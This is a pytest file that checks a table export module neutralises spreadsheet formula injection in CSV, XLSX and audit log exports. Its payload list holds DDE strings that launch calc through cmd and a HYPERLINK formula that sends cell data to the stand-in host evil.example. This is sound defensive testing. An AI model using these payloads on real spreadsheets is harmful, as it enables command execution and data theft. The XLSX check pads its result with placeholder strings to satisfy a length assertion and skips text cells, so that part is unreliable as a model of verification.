"""Class 14, formulas in exported files: a cell that a spreadsheet would run arrives as text."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from upshot.tables.export import defuse, write_frame

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]
START = tuple("=+-@\t\r")


@pytest.mark.parametrize("cell", FORMULAS)
def test_text_is_defused(cell: str) -> None:
    assert not defuse(cell).startswith(START)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_cells_and_headers_of_a_list_are_defused(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"list.{ending}"
    write_frame(pd.DataFrame({"=1+1": FORMULAS, "n": range(len(FORMULAS))}), path)
    cells = read_back(path)
    assert len(cells) > len(FORMULAS)
    assert [cell for cell in cells if cell.startswith(START)] == []


def read_back(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as stream:
            return [cell for row in csv.reader(stream) for cell in row]
    sheet = openpyxl.load_workbook(path).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in values if cell.data_type == "f"]
    # A workbook marks text as text; what counts there is that no cell is a formula.
    return [str(cell.value) for cell in values if cell.data_type != "s"] + ["text"] * 20


@pytest.mark.parametrize("number", [-5, -0.25, 3])
def test_numbers_stay_numbers(tmp_path: Path, number: float) -> None:
    path = tmp_path / "list.csv"
    write_frame(pd.DataFrame({"n": [number]}), path)
    assert float(path.read_text(encoding="utf-8-sig").splitlines()[1]) == number


def test_the_log_is_defused(cast: Any, owner_client: Any) -> None:
    cast.owner.name = FORMULAS[1]
    cast.owner.save()
    owner_client.post(f"/workspaces/{cast.workspace.uuid}/name/", {"name": "Market"})
    response = owner_client.get(f"/workspaces/{cast.workspace.uuid}/log/csv/")
    lines = b"".join(response.streaming_content).decode().splitlines()
    rows = list(csv.reader(lines))
    assert any("cmd|" in cell for row in rows for cell in row)
    assert [cell for row in rows for cell in row if cell.startswith(START)] == []
